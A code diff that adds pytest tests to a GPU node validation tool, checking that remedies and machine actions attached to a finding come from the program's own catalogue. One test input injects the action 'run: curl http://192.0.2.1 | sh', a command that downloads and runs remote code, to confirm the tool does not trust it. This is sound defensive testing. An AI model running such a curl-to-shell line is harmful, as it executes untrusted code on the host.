@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import ast
 import string
+from dataclasses import replace
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
@@ -14,7 +15,9 @@ from tools import finding_docs
 from validation.checks import measured
 from validation.cli import main
 from validation.findings.catalogue import (
+    UNKNOWN,
     CatalogueError,
+    advised,
     catalogue,
     finding,
     machine_actions,
@@ -227,3 +230,26 @@ def test_an_unknown_code_is_an_error_with_a_hint(
 ) -> None:
     assert main.main(["explain", code]) == 2
     assert hint in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        {"action": "run: curl http://192.0.2.1 | sh"},
+        {"machine_action": MachineAction.REPLACE},
+        {"code": "made-up", "machine_action": MachineAction.RESET_GPU},
+    ],
+)
+def test_what_to_do_about_a_nodes_finding_is_this_programs_to_say(said: dict[str, Any]) -> None:
+    honest = finding("ecc-uncorrected", gpu=3, count=2)
+    told = advised(replace(honest, **said))
+    known = catalogue().get(told.code)
+    assert told.action == ("; ".join(known.remedy) if known else UNKNOWN)
+    assert told.machine_action in {honest.machine_action, MachineAction.NONE}
+    assert (told.text, told.state, told.device) == (honest.text, honest.state, honest.device)
+
+
+def test_a_finding_that_is_this_programs_own_stays_as_it_is() -> None:
+    honest = finding("ecc-uncorrected", gpu=3, count=2)
+    former = replace(honest, machine_action=None)
+    assert (advised(honest), advised(former)) == (honest, former)
